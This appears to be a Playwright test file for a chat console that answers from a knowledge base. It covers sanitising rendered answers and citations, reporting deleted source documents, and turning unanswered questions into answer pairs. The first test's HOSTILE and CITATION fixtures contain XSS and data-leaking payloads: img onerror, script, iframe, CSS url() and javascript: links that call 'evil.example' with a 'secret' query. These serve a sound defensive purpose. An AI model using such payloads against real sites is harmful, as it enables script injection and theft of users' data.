/** What answers and their sources may do in the console, and what becomes of questions without an answer. */
import { expect, test, type Browser, type Page } from '@playwright/test';
import { z } from 'zod';
import { violationsOf } from './axe.ts';
import { samplePerson, sellKnowledge, purchase, type SamplePerson } from './sample-people.ts';

test.describe.configure({ mode: 'serial' });

/** Somebody with a product that answers from nothing yet. */
let buyer: SamplePerson;
let subscription = '';
test.beforeAll(async ({ browser, baseURL }: { browser: Browser; baseURL: string | undefined }) => {
  const base = baseURL ?? '';
  const [seller, operator] = [await samplePerson(browser, base, 'seller@example.com'), await samplePerson(browser, base, 'operator@example.com')];
  buyer = await samplePerson(browser, base, 'buyer@example.com');
  subscription = await purchase(buyer, await sellKnowledge(seller, operator, `Careful answers ${Date.now()}`));
  await expect.poll(async () => (await buyer.call('GET', `/api/v1/subscriptions/${subscription}`, z.looseObject({ state: z.string() }))).state).toBe('active');
});
const at = (tab: string) => `/organizations/${buyer.organization}/agents/${subscription}/${tab}/`;

const HOSTILE = [
  'Before ![track](https://evil.example/?q=secret) and ![own](/api/v1/me) <img src="https://evil.example/i.png" onerror="window.hacked=1">',
  '<script>window.hacked=1</script><iframe src="https://evil.example"></iframe><input type="image" src="https://evil.example/b.png"><div style="background:url(https://evil.example/c.png)">x</div>',
  '[click](javascript:window.hacked=1) [out](https://evil.example/?q=secret) after [1].',
].join('\n\n');
const CITATION = { id: 1, chunk_id: '11111111-1111-4111-8111-111111111111', document_id: '22222222-2222-4222-8222-222222222222', title: '<b>Fake</b> ![t](https://evil.example/t.png)', page: 3, url: 'javascript:window.hacked=1', snippet: '<img src="https://evil.example/s.png"> said it', quotes: [{ text: 'x', verified: false }] };

/** Everything the page asked of other sites, or of the API by a picture. */
const watch = (page: Page): string[] => {
  const asked: string[] = [];
  page.on('request', (request) => { if (request.url().includes('evil.example') || (request.resourceType() === 'image' && request.url().includes('/api/'))) asked.push(request.url()); });
  return asked;
};

test('an answer loads no picture of another site, calls nothing, and runs nothing', async () => {
  const { page } = buyer;
  const asked = watch(page);
  await page.route('**/api/v1/subscriptions/*/chat', async (route) => {
    const chunk = (more: object) => `data: ${JSON.stringify({ id: 'chatcmpl-1', object: 'chat.completion.chunk', conversation_id: null, run_id: '33333333-3333-4333-8333-333333333333', choices: [{ index: 0, delta: {}, finish_reason: null }], ...more })}\n\n`;
    await route.fulfill({ contentType: 'text/event-stream', body: `${chunk({ choices: [{ index: 0, delta: { content: HOSTILE }, finish_reason: null }] })}${chunk({ citations: [CITATION] })}data: [DONE]\n\n` });
  });
  await page.goto(at('run'));
  // The first screen of a person brings all of the console along.
  await expect(page.getByRole('textbox').first()).toBeEditable({ timeout: 60_000 });
  await page.getByRole('textbox').first().fill('Is it safe?');
  await page.getByRole('textbox').first().press('Enter');
  const answer = page.locator('li[aria-busy="false"]').last();
  await expect(answer.getByText('after')).toBeVisible();
  await expect(answer.locator('img, script, iframe, input, [style*="url"], [onerror]')).toHaveCount(0);
  await expect(answer.getByRole('link', { name: 'out' })).toHaveAttribute('rel', /noopener.*nofollow/);
  await expect(answer.getByText('click')).not.toHaveAttribute('href');
  await answer.getByRole('button', { name: 'Source 1' }).click();
  const passage = page.getByRole('dialog').last();
  await expect(passage).toContainText('<img src="https://evil.example/s.png"> said it');
  await expect(passage).toContainText('not word for word');
  await expect(passage.getByRole('link')).toHaveCount(0);
  // The document is not there: words, not an error.
  await passage.getByRole('button', { name: 'Read the document' }).click();
  await expect(page.getByText('This document is no longer there')).toBeVisible();
  await page.unroute('**/api/v1/subscriptions/*/chat');
  expect(await page.evaluate('window.hacked')).toBeUndefined();
  expect(asked).toEqual([]);
});

test('a kept answer says that its document was changed or deleted since', async () => {
  const { page } = buyer;
  await buyer.call('POST', `/api/v1/subscriptions/${subscription}/knowledge/documents`, z.unknown(), { documents: [{ external_id: 'hours', title: 'Opening hours', text: 'The workshop opens at seven in the morning.' }] });
  const Documents = z.looseObject({ data: z.array(z.looseObject({ id: z.string(), state: z.string() })) });
  const documents = async () => (await buyer.call('GET', `/api/v1/subscriptions/${subscription}/knowledge/documents`, Documents)).data;
  await expect.poll(async () => (await documents()).map(({ state }) => state)).toEqual(['indexed']);
  await page.goto(at('run'));
  await page.getByRole('textbox').first().fill('When does the workshop open?');
  await page.getByRole('textbox').first().press('Enter');
  await expect(page.getByRole('group', { name: 'Sources' })).toBeVisible();
  await page.getByRole('group', { name: 'Sources' }).getByRole('button').click();
  await page.getByRole('button', { name: 'Read the document' }).click();
  await expect(page.getByLabel('The cited passage')).toContainText('seven in the morning');
  await page.keyboard.press('Escape');
  const [document] = await documents();
  const gone = await page.request.delete(`/api/v1/subscriptions/${subscription}/knowledge/documents/${document?.id ?? ''}`, { headers: { origin: new URL(page.url()).origin, 'x-organization-id': buyer.organization } });
  expect(gone.status()).toBe(204);
  await page.goto(at('conversations'));
  await page.getByText('When does the workshop open?').first().click();
  await page.getByRole('button', { name: /Opening hours.*\(deleted\)/ }).click();
  await expect(page.getByText('This document was deleted since. Shown is what it said then.')).toBeVisible();
  await expect(page.getByRole('dialog').last()).toContainText('seven in the morning');
});

test('a question without an answer becomes a pair, and is answered from then on', async () => {
  const { page } = buyer;
  await page.goto(`${at('training')}?part=questions`);
  const row = page.getByText('Do you repair old umbrellas?');
  if (await row.count() === 0) await expect(page.getByRole('heading', { name: 'No open questions' })).toBeVisible();
  await page.request.post(`/api/v1/subscriptions/${subscription}/chat`, { data: { message: 'Do you repair old umbrellas?' }, headers: { origin: new URL(page.url()).origin, 'x-organization-id': buyer.organization } }).then(async (answer) => answer.text());
  await expect.poll(async () => (await buyer.call('GET', `/api/v1/subscriptions/${subscription}/knowledge/status`, z.looseObject({ questions_open: z.number() }))).questions_open).toBe(1);
  await page.reload();
  await row.click();
  const question = page.getByRole('dialog', { name: 'Question' });
  await expect(question).toContainText('Nothing was found');
  await question.getByRole('button', { name: 'Propose an answer' }).click();
  await expect(question).toContainText('Nothing helps yet: write it');
  expect((await violationsOf(page)).map(({ id, nodes }) => [id, nodes[0]?.html])).toEqual([]);
  await question.getByRole('textbox', { name: 'Answer' }).fill('Yes, our workshop repairs umbrellas of any age.');
  await question.getByRole('button', { name: 'Accept as a pair' }).click();
  await expect(question).toContainText('Answered by a pair');
  await expect(question).toContainText('1 of 1 wording is answered now');
  await question.getByRole('link', { name: 'Conversation' }).click();
  await expect(page.getByRole('dialog')).toContainText('Do you repair old umbrellas?');
});
